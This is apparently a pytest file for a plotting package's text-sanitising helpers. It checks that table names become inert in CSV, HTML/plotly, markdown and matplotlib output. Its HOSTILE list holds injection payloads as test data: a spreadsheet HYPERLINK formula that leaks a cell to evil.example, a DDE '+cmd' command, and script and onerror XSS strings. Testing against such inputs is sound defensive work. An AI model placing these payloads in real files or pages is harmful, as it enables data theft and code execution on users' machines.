"""Names from a table made inert per output: CSV cells no spreadsheet runs, plotly labels and
markdown that show every name literally, matplotlib text without mathtext."""

import csv
import html
import io
import re

import matplotlib
import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ldpviz._safe_text import (
    FORMULA_START,
    csv_cell,
    html_text,
    markdown_text,
    mpl_text,
    plotly_text,
    write_csv,
)
from ldpviz.reproduce import paper

HOSTILE = ['<a href="https://evil.example/">clickme</a>', '=HYPERLINK("http://evil.example/?d="'
           '&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)", "\tlead", "\rlead", "-2+3",
           " =1+1", "\uff1dSUM(1)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
           r"$\frac{a}$", "income ($)", "a|b", "**bold**", "[x](https://evil.example)",
           "www.evil.example", "me@evil.example", "A&amp;B", "line\nbreak", "`code`", "~~s~~"]
TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=30)


def _runs_as_formula(cell):
    """What a spreadsheet would evaluate: text that starts (after spaces) like a formula and
    is not a plain number."""
    return (isinstance(cell, str) and cell.lstrip(" ").startswith(FORMULA_START)
            and not re.fullmatch(r"\s*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*", cell))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_formula_cell_gets_an_apostrophe_and_nothing_else_changes(name):
    cell = csv_cell(name)
    if _runs_as_formula(name):
        assert cell == "'" + name
    else:
        assert cell == name
    assert not _runs_as_formula(cell)


@given(TEXT)
def test_no_text_cell_starts_a_formula(text):
    cell = csv_cell(text)
    assert not _runs_as_formula(cell)
    assert cell in (text, "'" + text)  # the name is kept whole, at most one mark in front


@pytest.mark.parametrize("number", ["-3.5", "+2", "-1e-3", " -7 ", ".5", "12"])
def test_text_that_is_a_plain_number_stays_a_number(number):
    assert csv_cell(number) == number


def test_a_written_frame_keeps_its_numbers_and_neutralises_its_text(tmp_path):
    frame = pd.DataFrame({"column": HOSTILE, "cost": np.linspace(-1, 1, len(HOSTILE)),
                          "rank": np.arange(len(HOSTILE)), "significant": True,
                          "=SUM(A1)": "x"})
    path = write_csv(frame, tmp_path / "t.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(_runs_as_formula(cell) for cell in cells)
    back = pd.read_csv(path)
    assert back["cost"].dtype == float and (back["cost"] < 0).sum() == len(HOSTILE) // 2
    np.testing.assert_allclose(back["cost"], frame["cost"])
    assert back.columns[-1] == "'=SUM(A1)"
    assert list(back["column"].str.removeprefix("'").str.replace("\r", "\n")) == \
        [n.replace("\r", "\n") for n in HOSTILE]  # csv reads a lone CR back as a line break
    assert frame["column"].tolist() == HOSTILE  # the caller's frame is not edited


def test_the_reproduction_writes_its_csv_through_the_same_guard(tmp_path):
    frame = pd.DataFrame({"dataset": ["@SUM(1)", "ABA"], "mse": [-0.5, 1.0]})
    (path,) = paper.write_outputs(tmp_path, "t", {"": frame})
    text = path.read_text()
    assert "'@SUM(1)" in text and ",-0.5" in text


@pytest.mark.parametrize("name", HOSTILE)
def test_html_and_plotly_text_hold_no_tag_and_no_math(name):
    for escaped in (html_text(name), plotly_text(name)):
        assert "<" not in escaped and ">" not in escaped
        assert html.unescape(escaped) == name
    assert "$" not in plotly_text(name)  # plotly's TeX check sees no dollar


@given(TEXT)
def test_plotly_text_decodes_back_to_the_name(text):
    """plotly.js decodes &lt; &gt; &amp; and numeric entities (svg_text_utils'
    convertEntities); html.unescape does the same for these."""
    escaped = plotly_text(text)
    assert "<" not in escaped and "$" not in escaped
    assert html.unescape(escaped) == text


@pytest.mark.parametrize("name", HOSTILE)
def test_matplotlib_draws_the_name_without_mathtext(name):
    from matplotlib import cbook

    text = mpl_text(name)
    assert not cbook.is_math_text(text)
    fig = matplotlib.figure.Figure()
    title = fig.suptitle(text)
    fig.canvas.draw()  # "$\frac{a}$" used to raise ParseSyntaxException here
    assert title._preprocess_math(title.get_text()) == (name, False)


mistune = pytest.importorskip("mistune")
RENDER = mistune.create_markdown(plugins=["table", "strikethrough", "url"])


def _rendered_cells(markdown):
    """The text of each table cell of rendered markdown, and every tag it holds."""
    page = RENDER(markdown)
    cells = [html.unescape(c) for c in re.findall(r"<td>(.*?)</td>", page, re.S)]
    tags = set(re.findall(r"<([a-z0-9]+)", page))
    return cells, tags, page


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_shows_the_name_literally_in_a_table_cell(name):
    cells, tags, page = _rendered_cells(f"| name | n |\n|---|---|\n| {markdown_text(name)} | 1 |")
    assert tags <= {"table", "thead", "tbody", "tr", "th", "td"}, page
    shown = name.strip(" \t").replace("\r\n", "\\n").replace("\r", "\\n").replace("\n", "\\n")
    assert cells == [shown, "1"], page


@given(TEXT.filter(lambda t: t == t.strip()))
def test_markdown_round_trips_any_name(text):
    cells, tags, page = _rendered_cells(f"| name | n |\n|---|---|\n| {markdown_text(text)} | 1 |")
    assert tags <= {"table", "thead", "tbody", "tr", "th", "td"}, page
    assert cells[-1] == "1" and cells[0] == text.replace("\n", "\\n"), page


def test_markdown_rows_keep_their_cells():
    from ldpviz.reproduce.whatif_report import markdown_table

    frame = pd.DataFrame({"column": HOSTILE, "cost": ["+1%"] * len(HOSTILE)})
    text = markdown_table(frame, index=False, escape=markdown_text)
    cells, _, _ = _rendered_cells(text)
    assert len(cells) == 2 * len(HOSTILE)
    assert io.StringIO(text).read().count("\n") == len(HOSTILE) + 1  # one line per row
